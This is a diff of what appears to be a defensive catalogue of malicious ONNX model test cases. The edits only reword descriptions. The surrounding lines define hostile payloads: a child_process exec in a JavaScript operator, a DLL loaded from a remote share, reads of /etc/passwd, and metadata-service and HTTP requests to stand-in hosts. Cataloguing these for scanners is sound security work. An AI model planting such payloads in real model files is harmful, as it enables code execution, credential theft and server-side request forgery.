@@ -64,7 +64,7 @@ attack("in-training", "PyOp in the training algorithm.", model_with_extras(extra
     "PyOp", ["x"], ["z"], domain="ai.onnx.contrib")], [X], [value("z")])))))
 attack("spelled-python-op", "Python_Op, a spelling that name matching misses.", network([node("Python_Op", ["x"],
     ["y"], domain="ai.onnx.contrib")], opsets=CONTRIB))
-attack("lambda", "A Lambda of the domain keras2onnx with marshalled code.", network([node("Lambda", ["x"], ["y"],
+attack("lambda", "A Lambda of the domain keras with marshalled Python code.", network([node("Lambda", ["x"], ["y"],
     domain="keras", function=b"\xe3\0\0\0\0")], opsets=opsets_with("keras")))
 attack("java-script", "A JavaScript operator with code in an attribute.", network([node("JSKernel", ["x"], ["y"],
     domain="com.example.js", source="require('child_process').exec('id')")], opsets=opsets_with("com.example.js")))
@@ -94,7 +94,7 @@ file_attack("windows-library", "A node that names a DLL on a share.", "CustomOp"
     dll="\\\\192.0.2.1\\share\\evil.dll")
 file_attack("snpe", "Snpe of com.microsoft with a container of code for a DSP.", "Snpe", "com.microsoft", DLC=ELF,
     notes="")
-file_attack("file-reader", "FileReader of com.example reads any file.", "ReadFile", "com.example",
+file_attack("file-reader", "ReadFile of com.example reads any file.", "ReadFile", "com.example",
     filename="/etc/passwd")
 file_attack("file-writer", "A node that writes a file.", "WriteFile", "com.example", filename="/tmp/evil")
 file_attack("wordpiece", "WordpieceTokenizer with a vocabulary path that goes up.", "WordpieceTokenizer",
@@ -123,7 +123,7 @@ server_attack("metadata-service", "AzureTextToText whose model_uri is the metada
     "AzureTextToText", model_uri="http://169.254.169.254/latest/meta-data/", model_name="x")
 server_attack("http-request", "A generic HTTP operator.", "HttpRequest", url="http://192.0.2.1/?q=")
 
-attack = declare("ep-context", "code", "EPContext holds or names a compiled binary, which a driver runs.", "CWE-829",
+attack = declare("ep-context", "code", "EPContext contains or names a compiled binary, which a driver runs.", "CWE-829",
     "onnxruntime with QNN, OpenVINO, TensorRT, VitisAI")
 FIX_PAGE = "https://github.com/microsoft/onnxruntime/pull/28605"
 
